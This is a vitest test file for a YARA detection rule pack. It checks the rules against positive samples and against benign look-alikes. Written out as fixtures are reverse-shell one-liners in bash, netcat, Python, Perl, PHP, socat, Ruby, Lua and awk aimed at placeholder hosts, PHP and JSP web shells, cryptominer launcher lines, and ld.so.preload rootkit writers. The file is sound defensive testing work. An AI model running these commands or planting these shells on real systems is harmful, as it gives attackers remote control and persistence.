import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { closeSync, lstatSync, mkdtempSync, openSync, readdirSync, readSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { builtInRules, compileRules, type YaraRuleMatch } from './index.js';

// Every sample below is put together at run time from pieces (a keyword split with `+`), so this
// file holds no live sample: the pack scanning this very file finds nothing (a test says so).

const { rules, ruleCount } = compileRules([{ name: 'cordon-default', source: builtInRules() }]);
const scan = (data: string | Buffer): YaraRuleMatch[] => rules.scan(typeof data === 'string' ? Buffer.from(data) : data);
const hits = (data: string | Buffer): string[] => scan(data).map((m) => m.ruleIdentifier);

const REPO = fileURLToPath(new URL('../../../../', import.meta.url));
const PACK_FILE = fileURLToPath(new URL('./rules/cordon-default.yar', import.meta.url));
const THIS_FILE = fileURLToPath(import.meta.url);

const dir = mkdtempSync(join(tmpdir(), 'cordon-rules-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

// --- Pieces the samples are made of -------------------------------------------------------------

const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-' + 'ANTIVIRUS-TEST-FILE!$H+H*';
const TCP = '/dev/' + 'tcp/';
const STRATUM = 'stra' + 'tum+tcp://';
const XMRIG = 'xm' + 'rig';
const PHP = '<' + '?php';
const JSP = '<' + '%';
const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
/** A Monero address's shape: 4, then 0-9/A/B, then 93 base58 characters. */
const WALLET = '4A' + BASE58.repeat(2).slice(0, 93);

/** A small but well-formed ELF64 shared object (x86-64): its dynamic symbols and read-only strings as asked. */
function sharedObject(opts: { defines?: string[]; imports?: string[]; strings?: string[]; type?: 'ET_DYN' | 'ET_EXEC' }): Buffer {
  const text = Buffer.alloc(64, 0xc3); // ret, ret, …
  const rodata = Buffer.from((opts.strings ?? []).join('\0') + '\0');
  const names = [...(opts.defines ?? []), ...(opts.imports ?? [])];
  const dynstr = Buffer.from('\0' + names.map((n) => n + '\0').join(''));
  const sym = (nameOffset: number, shndx: number, value: number): Buffer => {
    const b = Buffer.alloc(24);
    b.writeUInt32LE(nameOffset, 0);
    b.writeUInt8((1 << 4) | 2, 4); // STB_GLOBAL, STT_FUNC
    b.writeUInt16LE(shndx, 6);
    b.writeBigUInt64LE(BigInt(value), 8);
    b.writeBigUInt64LE(BigInt(value ? 1 : 0), 16);
    return b;
  };
  const TEXT = 1; // section index of .text
  let off = 1;
  const syms: Buffer[] = [Buffer.alloc(24)];
  for (const n of opts.defines ?? []) {
    syms.push(sym(off, TEXT, 0x1000 + syms.length));
    off += n.length + 1;
  }
  for (const n of opts.imports ?? []) {
    syms.push(sym(off, 0, 0));
    off += n.length + 1;
  }
  const dynsym = Buffer.concat(syms);
  const shstrtab = Buffer.from('\0.text\0.rodata\0.dynstr\0.dynsym\0.shstrtab\0');
  const nameAt = (n: string): number => shstrtab.indexOf(n + '\0');
  const sections = [
    { name: '.text', type: 1, flags: 6, data: text, link: 0, info: 0, entsize: 0 },
    { name: '.rodata', type: 1, flags: 2, data: rodata, link: 0, info: 0, entsize: 0 },
    { name: '.dynstr', type: 3, flags: 2, data: dynstr, link: 0, info: 0, entsize: 0 },
    { name: '.dynsym', type: 11, flags: 2, data: dynsym, link: 3, info: 1, entsize: 24 },
    { name: '.shstrtab', type: 3, flags: 0, data: shstrtab, link: 0, info: 0, entsize: 0 },
  ];
  const parts: Buffer[] = [];
  let at = 64;
  const placed = sections.map((s) => {
    const pad = (8 - (at % 8)) % 8;
    parts.push(Buffer.alloc(pad), s.data);
    at += pad;
    const offset = at;
    at += s.data.length;
    return { ...s, offset };
  });
  const shoff = at + ((8 - (at % 8)) % 8);
  parts.push(Buffer.alloc(shoff - at));
  const headers = [Buffer.alloc(64)];
  for (const s of placed) {
    const h = Buffer.alloc(64);
    h.writeUInt32LE(nameAt(s.name), 0);
    h.writeUInt32LE(s.type, 4);
    h.writeBigUInt64LE(BigInt(s.flags), 8);
    h.writeBigUInt64LE(BigInt(s.flags & 2 ? s.offset : 0), 16);
    h.writeBigUInt64LE(BigInt(s.offset), 24);
    h.writeBigUInt64LE(BigInt(s.data.length), 32);
    h.writeUInt32LE(s.link, 40);
    h.writeUInt32LE(s.info, 44);
    h.writeBigUInt64LE(8n, 48);
    h.writeBigUInt64LE(BigInt(s.entsize), 56);
    headers.push(h);
  }
  const ehdr = Buffer.alloc(64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(ehdr, 0); // ELF, 64-bit, little-endian, v1
  ehdr.writeUInt16LE(opts.type === 'ET_EXEC' ? 2 : 3, 16);
  ehdr.writeUInt16LE(62, 18); // EM_X86_64
  ehdr.writeUInt32LE(1, 20);
  ehdr.writeBigUInt64LE(BigInt(shoff), 40);
  ehdr.writeUInt16LE(64, 52); // e_ehsize
  ehdr.writeUInt16LE(56, 54); // e_phentsize
  ehdr.writeUInt16LE(64, 58); // e_shentsize
  ehdr.writeUInt16LE(headers.length, 60);
  ehdr.writeUInt16LE(headers.length - 1, 62); // .shstrtab is last
  return Buffer.concat([ehdr, ...parts, ...headers]);
}

/** The libc functions a process-hiding hook library imports besides dlsym. */
const LIBC_IMPORTS = ['strcmp', 'snprintf', 'fopen', 'fgets', 'fclose', 'readlink', 'dirfd'];

// --- Positive samples: at least one for every rule ------------------------------------------------

interface Sample {
  rule: string;
  name: string;
  data: () => string | Buffer;
}

const POSITIVES: Sample[] = [
  { rule: 'EICAR_Test_File', name: 'the 68 bytes alone', data: () => EICAR },
  { rule: 'EICAR_Test_File', name: 'followed by a line end', data: () => EICAR + '\r\n' },
  { rule: 'EICAR_Test_File', name: 'inside 4 MB of other bytes', data: () => Buffer.concat([randomBytes(3 << 20), Buffer.from(EICAR), randomBytes(1 << 20)]) },

  {
    rule: 'CoinMiner_ELF_Miner',
    name: 'an XMRig-like executable',
    data: () => sharedObject({ type: 'ET_EXEC', strings: ['XM' + 'Rig 6.21.0', 'donate' + '-level', STRATUM, 'rx/0', 'Random' + 'X'] }),
  },
  {
    rule: 'CoinMiner_ELF_Miner',
    name: 'a cpuminer-like executable',
    data: () => sharedObject({ type: 'ET_EXEC', strings: ['User-Agent: cpu' + 'miner/2.5.1', 'mining' + '.subscribe', 'mining' + '.authorize'] }),
  },
  {
    rule: 'CoinMiner_ELF_Miner',
    name: 'an executable naming a pool and the stratum scheme',
    data: () => sharedObject({ type: 'ET_EXEC', strings: ['pool.support' + 'xmr.com:443', 'stra' + 'tum+ssl://'] }),
  },
  {
    rule: 'CoinMiner_XMRig_Config',
    name: "XMRig's config.json",
    data: () =>
      JSON.stringify(
        {
          autosave: true,
          randomx: { init: -1, mode: 'auto', '1gb-pages': false },
          cpu: { enabled: true, 'huge-pages': true, 'max-threads-hint': 100 },
          ['donate' + '-level']: 1,
          'donate-over-proxy': 1,
          pools: [{ algo: 'rx' + '/0', coin: null, url: 'pool.support' + 'xmr.com:443', user: WALLET, pass: 'x', 'rig-id': null, nicehash: false, tls: true }],
        },
        null,
        4,
      ),
  },
  {
    rule: 'CoinMiner_XMRig_Config',
    name: 'a minimal config (pools and the algorithm only)',
    data: () => `{"po` + `ols":[{"url":"185.0.2.1:3333","user":"${WALLET}","algo":"${'rx' + '/0'}","nicehash":true}]}`,
  },
  {
    rule: 'CoinMiner_XMRig_Config',
    name: "XMR-Stak's pools.txt",
    data: () => `"pool_` + `list" :\n[\n  {"pool_address" : "pool.min` + `exmr.com:4444", "wallet_address" : "${WALLET}", "pool_password" : "x", "use_tls" : false},\n],\n`,
  },
  {
    rule: 'CoinMiner_Launcher',
    name: 'a dropper script starting a renamed miner',
    data: () => `#!/bin/sh\ncd /tmp/.x\nnohup ./kswapd0 -o ${STRATUM}pool.example.net:3333 -u ${WALLET} -p x --donate` + `-level 1 >/dev/null 2>&1 &\n`,
  },
  {
    rule: 'CoinMiner_Launcher',
    name: 'a cron line naming xmrig and a pool host',
    data: () => `*/5 * * * * /home/u/.cache/${XMRIG} -o gulf.moneroocean` + `.stream:10128 -k --tls\n`,
  },
  {
    rule: 'CoinMiner_Launcher',
    name: 'a systemd unit with the algorithm option',
    data: () => `[Service]\nExecStart=/usr/local/bin/sysupdate -a rx` + `/0 -o ${'stratum+ssl'}://xmr.pool.example:443 -u x\nRestart=always\n`,
  },

  { rule: 'WebShell_PHP_Request_Exec', name: 'the China Chopper one-liner', data: () => `${PHP} @ev` + `al($_POST['pass']);?>` },
  { rule: 'WebShell_PHP_Request_Exec', name: 'system of a GET parameter', data: () => `${PHP}\nif (isset($_GET['cmd'])) { sys` + `tem($_GET['cmd']); }\n?>` },
  { rule: 'WebShell_PHP_Request_Exec', name: 'shell_exec of a REQUEST parameter', data: () => `<html><body><pre>${PHP} echo shell_` + `exec($_REQUEST["c"]); ?></pre></body></html>` },
  { rule: 'WebShell_PHP_Request_Exec', name: 'assert of a decoded cookie', data: () => `${PHP} @as` + `sert(base64_decode($_COOKIE['z']));` },
  { rule: 'WebShell_PHP_Request_Exec', name: 'passthru with stripslashes', data: () => `${PHP} pass` + `thru(stripslashes($_POST["x"])); ?>` },
  { rule: 'WebShell_PHP_Request_Exec', name: 'a function named by the request', data: () => `${PHP} @$_GET['f']` + `($_GET['a']); ?>` },
  { rule: 'WebShell_PHP_Request_Exec', name: 'request input in backticks', data: () => `${PHP} echo \`$_GET` + `['c']\`; ?>` },
  { rule: 'WebShell_PHP_Request_Exec', name: 'hidden after a GIF header', data: () => Buffer.concat([Buffer.from('GIF89a\x01\x00\x01\x00'), randomBytes(200), Buffer.from(`${PHP} ev` + `al($_REQUEST[1]); ?>`)]) },
  {
    rule: 'WebShell_PHP_Obfuscated_Eval',
    name: 'eval of gzinflate of base64_decode',
    data: () => `${PHP} ev` + `al(gzinflate(base64_decode('${gzipSync('echo 1;').toString('base64')}'))); ?>`,
  },
  {
    rule: 'WebShell_PHP_Obfuscated_Eval',
    name: 'eval of a long base64 literal',
    data: () => `${PHP}\n@ev` + `al(base64_decode("${Buffer.from('echo "hello";'.repeat(30)).toString('base64')}"));\n`,
  },
  { rule: 'WebShell_PHP_Obfuscated_Eval', name: 'preg_replace /e fed from the request', data: () => `${PHP} preg_` + `replace("/.*/e", $_POST['code'], "x"); ?>` },
  {
    rule: 'WebShell_PHP_Known_Kit',
    name: 'WSO markers',
    data: () => `${PHP}\n$auth_pass = "";\n$default_action = 'Files` + `Man';\n@define('WSO_` + `VERSION', '2.5');\nfunction wsoEx($in) { return shell_exec($in); }\n`,
  },
  { rule: 'WebShell_PHP_Known_Kit', name: 'b374k markers', data: () => `${PHP}\n/* b37` + `4k 3.2.3 */\n$s_title = 'b37' + '4k';\nfunction x($c) { return pass` + `thru($c); }\n` },
  {
    rule: 'WebShell_JSP_Command_Exec',
    name: 'cmd.jsp',
    data: () =>
      `${JSP}@ page import="java.util.*,java.io.*"%>\n${JSP}\nif (request.getParameter("cmd") != null) {\n  Process p = Runtime.getRuntime()` +
      `.exec(request.getParameter("cmd"));\n  DataInputStream dis = new DataInputStream(p.getInputStream());\n}\n%>`,
  },
  {
    rule: 'WebShell_JSP_Command_Exec',
    name: 'ProcessBuilder with a request parameter',
    data: () => `${JSP} String[] c = {"/bin/sh", "-c", request.getParameter("c")};\nProcess p = new Process` + `Builder(c).redirectErrorStream(true).start(); %>`,
  },
  {
    rule: 'WebShell_JSP_Command_Exec',
    name: 'a ScriptEngine evaluating a request parameter',
    data: () => `${JSP}= new javax.script.ScriptEngineManager().getEngine` + `ByName("js").eval(request.getParameter("e")) %>`,
  },
  { rule: 'WebShell_JSP_Command_Exec', name: 'an XML-syntax JSP', data: () => `<jsp:scriptlet>Runtime.getRuntime()` + `.exec(request.getParameter("c"));</jsp:scriptlet>` },

  { rule: 'ReverseShell_Bash_DevTcp', name: 'the classic one-liner', data: () => `bash -i >& ${TCP}10.0.0.1/4242 0>&1` },
  { rule: 'ReverseShell_Bash_DevTcp', name: 'a crontab line', data: () => `* * * * * root /bin/bash -c 'sh -i >& ${TCP}198.51.100.7/443 0>&1'\n` },
  { rule: 'ReverseShell_Bash_DevTcp', name: 'a read-write descriptor', data: () => `sh -i 5<> ${TCP}10.0.0.1/4242 0<&5 1>&5 2>&5` },
  { rule: 'ReverseShell_Bash_DevTcp', name: 'descriptor 196', data: () => `0<&196;exec 196<>${TCP}10.0.0.1/4242; sh <&196 >&196 2>&196` },
  { rule: 'ReverseShell_Bash_DevTcp', name: 'a read loop', data: () => `exec 5<>${TCP}10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done` },
  { rule: 'ReverseShell_Bash_DevTcp', name: '${IFS} for spaces', data: () => `bash\${IFS}-i\${IFS}>&\${IFS}${TCP}10.0.0.1/4242\${IFS}0>&1` },
  { rule: 'ReverseShell_Bash_DevTcp', name: 'zsh to a udp socket', data: () => `zsh -i >& /dev/` + `udp/10.0.0.1/53 0>&1` },
  { rule: 'ReverseShell_Bash_DevTcp', name: 'base64-encoded', data: () => `echo ${Buffer.from(`bash -i >& ${TCP}10.0.0.1/4242 0>&1`).toString('base64')} | base64 -d | bash` },
  { rule: 'ReverseShell_Netcat', name: 'nc -e', data: () => `nc -e /bin/` + `sh 10.0.0.1 4242` },
  { rule: 'ReverseShell_Netcat', name: 'nc.traditional, -e last', data: () => `nc.traditional 10.0.0.1 4242 -e /bin/` + `bash` },
  { rule: 'ReverseShell_Netcat', name: 'ncat --exec', data: () => `ncat 10.0.0.1 4242 --` + `exec "/bin/bash -i"` },
  { rule: 'ReverseShell_Netcat', name: 'busybox nc', data: () => `busybox nc 10.0.0.1 4242 -e ` + `sh` },
  { rule: 'ReverseShell_Netcat', name: 'a named pipe', data: () => `rm /tmp/f;mk` + `fifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f` },
  {
    rule: 'ReverseShell_Python',
    name: 'os.dup2 and pty.spawn',
    data: () =>
      `python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.conn` + `ect(("10.0.0.1",4242));` +
      `os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spa` + `wn("/bin/sh")'`,
  },
  {
    rule: 'ReverseShell_Python',
    name: 'subprocess with the socket as stdin',
    data: () =>
      `import socket, subprocess\ns = socket.socket()\ns.conn` + `ect(("10.0.0.1", 4242))\n` +
      `subprocess.call(["/bin/` + `sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n`,
  },
  {
    rule: 'ReverseShell_Perl',
    name: 'use Socket and open(STDIN)',
    data: () =>
      `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i))))` +
      `{open(ST` + `DIN,">&S");open(ST` + `DOUT,">&S");open(ST` + `DERR,">&S");ex` + `ec("/bin/sh -i");};'`,
  },
  {
    rule: 'ReverseShell_Perl',
    name: 'IO::Socket and fdopen',
    data: () => `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fd` + `open($c,r);$~->fdopen($c,w);system$_ while<>;'`,
  },
  { rule: 'ReverseShell_PHP', name: 'fsockopen and exec', data: () => `php -r '$sock=fsock` + `open("10.0.0.1",4242);ex` + `ec("/bin/sh -i <&3 >&3 2>` + `&3");'` },
  {
    rule: 'ReverseShell_PHP',
    name: 'fsockopen and proc_open (pentestmonkey style)',
    data: () =>
      `${PHP}\n$sock = fsock` + `open($ip, $port, $errno, $errstr, 30);\n$shell = 'uname -a; w; id; /bin/` +
      `sh -i';\n$descriptorspec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));\n$process = proc_open($shell, $descriptorspec, $pipes);\n`,
  },
  { rule: 'ReverseShell_Socat', name: 'exec first', data: () => `socat exec:'bash -li',` + `pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242` },
  { rule: 'ReverseShell_Socat', name: 'network first, upper case', data: () => `socat TCP:10.0.0.1:4242 EXEC:'/bin/` + `sh',pty,stderr,setsid` },
  { rule: 'ReverseShell_Socat', name: 'over TLS', data: () => `socat OPENSSL:10.0.0.1:443,verify=0 EXEC:` + `bash,pty,stderr` },
  { rule: 'ReverseShell_Generic_FD', name: 'Ruby', data: () => `ruby -rsocket -e'f=TCPSocket.open("10.0.0.1",4242).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&` + `%d",f,f,f)'` },
  { rule: 'ReverseShell_Generic_FD', name: 'Lua', data: () => `lua -e "require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>` + `&3');"` },
  {
    rule: 'ReverseShell_Generic_FD',
    name: 'gawk /inet/tcp',
    data: () => `awk 'BEGIN {s = "/inet/` + `tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}'`,
  },

  {
    rule: 'Rootkit_LDPreload_Readdir_Hook',
    name: 'a libprocesshider-like library',
    data: () => sharedObject({ defines: ['readdir', 'readdir64'], imports: ['dlsym', ...LIBC_IMPORTS], strings: ['readdir', 'readdir64', '/proc/self/fd/%d', '/proc/%s/stat', 'Error in dlsym: %s'] }),
  },
  {
    rule: 'Rootkit_LDPreload_Readdir_Hook',
    name: 'a Jynx-like library (readdir64 only, ld.so.preload named)',
    data: () => sharedObject({ defines: ['readdir64', 'fopen', 'fopen64', '__lxstat', 'accept'], imports: ['dlsym', 'strstr'], strings: ['readdir', 'readdir64', 'ld.so.' + 'preload'] }),
  },
  {
    rule: 'Rootkit_LDPreload_Readdir_Hook',
    name: 'an Azazel-like library (encoded strings, many hooks)',
    data: () => sharedObject({ defines: ['readdir', 'readdir64', 'fopen', '__lxstat', 'accept', 'unlink'], imports: ['dlsym', 'strstr'], strings: [randomBytes(64).toString('hex')] }),
  },
  { rule: 'Rootkit_LDPreload_Config', name: 'a library in a hidden /tmp directory', data: () => '/tmp/.x/libhide.so\n' },
  { rule: 'Rootkit_LDPreload_Config', name: 'second on a line, Windows line ends', data: () => '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /var/tmp/libc.so.6\r\n' },
  { rule: 'Rootkit_LDPreload_Config', name: 'after a comment, in /dev/shm', data: () => '# system\n/dev/shm/libsystem.so\n' },
  { rule: 'Rootkit_LDPreload_Config', name: 'in a home directory, no line end', data: () => '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n/home/bob/.cache/libselinux.so' },
  { rule: 'Rootkit_LDPreload_Config', name: 'under a hidden system directory', data: () => '  /usr/lib/.fonts/libz.so.1\n' },
  { rule: 'Rootkit_LDPreload_Writer', name: 'echo into the file', data: () => `#!/bin/sh\ncp libhide.so /usr/local/lib/\necho /usr/local/lib/libhide.so > /etc/ld.so.` + `preload\n` },
  { rule: 'Rootkit_LDPreload_Writer', name: 'a variable through tee -a', data: () => `echo "$LIB" | tee -a /etc/ld.so.` + `preload >/dev/null\n` },
];

// --- Benign look-alikes: near the rules' evidence, but not it --------------------------------------

const LOOKALIKES: { name: string; data: () => string | Buffer }[] = [
  { name: 'a truncated EICAR string', data: () => EICAR.slice(0, 60) },
  { name: 'documentation that mentions xmrig once', data: () => `# Miners\n\nCordon's rule pack finds ${XMRIG} and its forks on Linux servers; see the rules for details.\n` },
  { name: 'documentation that explains the stratum scheme', data: () => `Pools speak the stratum protocol: an address starts with stratum+tcp:// or stratum+ssl://, and ${XMRIG} reads it from -o.\n` },
  { name: 'a connection-pool config with url and user', data: () => JSON.stringify({ pools: [{ url: 'postgres://db:5432/app', user: 'app' }], max: 10, 'idle-timeout': 30 }) },
  { name: 'a crypto library naming RandomX', data: () => sharedObject({ defines: ['randomx_init'], strings: ['Random' + 'X', 'argon2d'] }) },
  { name: 'PHP that evaluates a constant and escapes request input', data: () => `${PHP}\n$two = eval('return 1+1;');\n$page = $_GET['page'] ?? 'home';\necho htmlspecialchars($page);\nsystem('ls ' . escapeshellarg($_GET['dir']));\n` },
  { name: 'PHP that decodes base64 without eval', data: () => `${PHP}\n$cfg = json_decode(base64_decode($_POST['cfg']), true);\necho base64_decode('aGVsbG8=');\n` },
  { name: "a security plugin's list of web-shell names", data: () => `${PHP}\n$known = ['c99` + `shell', 'r57` + `shell', 'b37` + `4k'];\nforeach ($known as $k) { if (stripos($body, $k) !== false) { log_hit($k); } }\n` },
  { name: 'a web-shell explained in plain text (no PHP tag)', data: () => `Attackers often upload a one-liner that calls sys` + `tem($_GET['cmd']) to run commands.\n` },
  { name: 'JSP that prints a request parameter', data: () => `${JSP}@ page contentType="text/html"%>\n<p>Hello ${JSP}= request.getParameter("name") %></p>\n` },
  { name: 'Java (no JSP tag) running a fixed command', data: () => `class Backup { void run() throws Exception { Runtime.getRuntime()` + `.exec(new String[]{"tar", "czf", "/backup.tgz", "/srv"}); } }\n` },
  { name: '/dev/tcp in a comment only', data: () => `#!/bin/bash\n# We could probe the port with bash's ${TCP}host/port, but nc is clearer.\nnc -z "$HOST" "$PORT"\n` },
  { name: "a wait-for-it style port check", data: () => `timeout 1 bash -c "cat < /dev/null > ${TCP}$HOST/$PORT" && echo up\n` },
  { name: 'an HTTP request over a /dev/tcp descriptor', data: () => `exec 3<>${TCP}example.org/80\necho -e "GET / HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n" >&3\ncat <&3\n` },
  { name: 'nc as a port check and a listener writing a file', data: () => `nc -zv db.internal 5432\nnc -l 1234 > received.tar\necho ruok | nc localhost 2181\n` },
  { name: 'a socat port forwarder', data: () => `socat TCP-LISTEN:8080,fork,reuseaddr TCP:127.0.0.1:80\n` },
  { name: 'a Python socket client without a shell', data: () => `import socket\ns = socket.socket()\ns.conn` + `ect(("example.org", 80))\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint(s.recv(4096))\n` },
  { name: 'Python running a shell command without a socket', data: () => `import subprocess, os\nsubprocess.call(["/bin/sh", "-c", "ls"], stdin=open(os.devnull).fileno())\n` },
  { name: 'Perl with a socket but no shell', data: () => `use Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));\nopen(ST` + `DOUT, ">&S");\nprint "hello";\n` },
  { name: 'an ordinary ld.so.preload', data: () => '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n' },
  { name: 'a commented-out temporary library', data: () => '# /tmp/libdebug.so\n/usr/lib/x86_64-linux-gnu/libeatmydata.so\n' },
  { name: 'a script that reads ld.so.preload', data: () => `if [ -s /etc/ld.so.preload ]; then cat /etc/ld.so.preload; grep -v '^#' /etc/ld.so.preload; fi\n` },
  { name: "clearing ld.so.preload", data: () => `echo '' > /etc/ld.so.` + `preload\nprintf "" | tee /etc/ld.so.` + `preload\n` },
  { name: 'a small script that copies a library out of /tmp', data: () => `#!/bin/sh\ncp /tmp/build/libfoo.so /usr/local/lib/\nldconfig\n` },
  { name: 'a note that names a library in /tmp', data: () => `/tmp/libfoo.so is the debug build; do not preload it.\n` },
  { name: 'a readdir wrapper with dlsym and nothing else that hides', data: () => sharedObject({ defines: ['readdir', 'readdir64'], imports: ['dlsym', 'strcmp'], strings: ['readdir', 'readdir64'] }) },
  {
    name: "an I/O tracer that hooks readdir and file calls (gprofng's shape)",
    data: () => sharedObject({ defines: ['readdir', 'open', 'fopen', 'unlink', 'access', 'read', 'write', '__collector_module_init'], imports: ['dlsym'], strings: ['readdir'] }),
  },
  { name: 'a library that defines readdir without dlsym (a libc-like one)', data: () => sharedObject({ defines: ['readdir', 'readdir64', 'opendir', 'dlsym'], strings: ['readdir', '/proc/self/fd', 'ld.so.preload'] }) },
  { name: 'a library that only calls readdir', data: () => sharedObject({ defines: ['list_dir'], imports: ['readdir', 'opendir', 'dlsym'], strings: ['readdir', '/proc/'] }) },
  { name: 'a sanitizer-like runtime that intercepts readdir', data: () => sharedObject({ defines: ['readdir', 'readdir64', '__sanitizer_set_report_path'], imports: ['dlsym'], strings: ['readdir', '/proc/self/maps'] }) },
];

// --- Corpora of clean files ------------------------------------------------------------------------

function walk(root: string, keep: (path: string) => boolean, out: string[] = []): string[] {
  let entries;
  try {
    entries = readdirSync(root, { withFileTypes: true });
  } catch {
    return out;
  }
  for (const e of entries.sort((a, b) => a.name.localeCompare(b.name))) {
    const path = join(root, e.name);
    if (e.isDirectory()) {
      if (e.name !== 'node_modules' && e.name !== 'dist') walk(path, keep, out);
    } else if (e.isFile() && keep(path)) out.push(path);
  }
  return out;
}

function isElf(path: string): boolean {
  const fd = openSync(path, 'r');
  try {
    const head = Buffer.alloc(4);
    return readSync(fd, head, 0, 4, 0) === 4 && head.readUInt32BE(0) === 0x7f454c46;
  } catch {
    return false;
  } finally {
    closeSync(fd);
  }
}

const regular = (path: string): boolean => {
  try {
    return lstatSync(path).isFile();
  } catch {
    return false;
  }
};
const firstElves = (root: string, name: RegExp, n: number): string[] => {
  let names: string[];
  try {
    names = readdirSync(root).sort();
  } catch {
    return [];
  }
  return names
    .filter((f) => name.test(f))
    .map((f) => join(root, f))
    .filter((p) => regular(p) && isElf(p))
    .slice(0, n);
};

/** Scans files; returns how many were read, their size, and every file a rule matched with the rules. */
function scanAll(paths: string[]): { files: number; bytes: number; unreadable: number; matched: Record<string, string[]> } {
  const matched: Record<string, string[]> = {};
  let files = 0;
  let bytes = 0;
  let unreadable = 0;
  for (const p of paths) {
    let m: YaraRuleMatch[];
    try {
      m = rules.scanFile(p);
      bytes += lstatSync(p).size;
    } catch {
      unreadable++;
      continue;
    }
    files++;
    if (m.length) matched[p] = m.map((x) => x.ruleIdentifier);
  }
  return { files, bytes, unreadable, matched };
}

// --- Tests ---------------------------------------------------------------------------------------------

const SEVERITIES = ['Informational', 'Low', 'Medium', 'High'];
const CATEGORIES = ['Malware', 'Execution', 'Persistence', 'DefenseEvasion', 'CommandAndControl', 'CredentialAccess', 'Exploit', 'SuspiciousActivity'];
const RULES = [...new Set(POSITIVES.map((s) => s.rule))];

describe('the built-in rule pack', () => {
  it('compiles without warnings, and every rule it declares has a positive sample here', () => {
    expect(rules.getWarnings()).toEqual([]);
    const declared = [...builtInRules().matchAll(/^rule\s+(\w+)/gm)].map((m) => m[1]);
    expect(declared.sort()).toEqual([...RULES].sort());
    expect(ruleCount).toBe(declared.length);
    console.log(`cordon-default: ${ruleCount} rules`);
  });

  it.each(POSITIVES)('$rule finds $name', ({ rule, data }) => {
    const matches = scan(data());
    expect(matches.map((m) => m.ruleIdentifier)).toContain(rule);
    const { meta } = matches.find((m) => m.ruleIdentifier === rule)!;
    expect(meta.description).toMatch(/^\S.{20,}/);
    expect(SEVERITIES).toContain(meta.severity);
    expect(CATEGORIES).toContain(meta.category);
    expect(meta.author).toBe('Cordon');
    if (meta.mitre !== undefined) expect(meta.mitre).toMatch(/^T\d{4}(\.\d{3})?$/);
  });

  it('finds EICAR as a file and inside a larger file (at neither end)', () => {
    writeFileSync(join(dir, 'eicar.com'), EICAR);
    const big = Buffer.concat([randomBytes(16 << 20), Buffer.from(EICAR), randomBytes(16 << 20)]);
    writeFileSync(join(dir, 'big.bin'), big);
    expect(rules.scanFile(join(dir, 'eicar.com')).map((m) => m.ruleIdentifier)).toEqual(['EICAR_Test_File']);
    const [m] = rules.scanFile(join(dir, 'big.bin'));
    expect(m?.ruleIdentifier).toBe('EICAR_Test_File');
    expect(m?.matches[0]?.offset).toBe(16 << 20);
  });

  it.each(LOOKALIKES)('finds nothing in $name', ({ data }) => {
    expect(hits(data())).toEqual([]);
  });

  it("finds nothing in the repository's own source, this file and the pack included", () => {
    const sources = [
      ...readdirSync(join(REPO, 'packages')).flatMap((p) => walk(join(REPO, 'packages', p, 'src'), () => true)),
      ...walk(join(REPO, 'e2e'), () => true),
    ];
    expect(sources).toContain(PACK_FILE);
    expect(sources).toContain(THIS_FILE);
    const { files, matched } = scanAll(sources);
    // Two tests carry a real reverse-shell command line as an alert's evidence; the pack is right
    // to flag them, and nothing else.
    const evidence = ['packages/server/src/routes/alerts.routes.test.ts', 'e2e/console-alerts.test.ts'];
    for (const f of evidence) if (matched[join(REPO, f)]) expect(matched[join(REPO, f)]).toEqual(['ReverseShell_Bash_DevTcp']);
    const others = Object.fromEntries(Object.entries(matched).filter(([p]) => !evidence.some((f) => p === join(REPO, f))));
    console.log(`repository: ${files} files scanned, ${Object.keys(others).length} matched (besides the ${evidence.length} alert-evidence tests)`);
    expect(others).toEqual({});
  });

  it('finds nothing in system files: executables, libraries, /etc and the scripts under /usr', { timeout: 300_000 }, () => {
    const scripts = walk('/usr', (p) => /\.(php|jsp|py|sh|pl|pm)$/.test(p) && regular(p));
    const corpora = {
      '/bin/bash': ['/bin/bash'].filter(regular),
      '/usr/bin (first 200 ELF)': firstElves('/usr/bin', /./, 200),
      '/usr/lib/x86_64-linux-gnu (first 200 .so ELF)': firstElves('/usr/lib/x86_64-linux-gnu', /\.so(\.|$)/, 200),
      '/etc': walk('/etc', regular),
      'scripts under /usr (.php .jsp .py .sh .pl .pm)': scripts,
    };
    const lines: string[] = [];
    let falsePositives: Record<string, string[]> = {};
    let total = 0;
    for (const [name, paths] of Object.entries(corpora)) {
      const r = scanAll(paths);
      total += r.files;
      falsePositives = { ...falsePositives, ...r.matched };
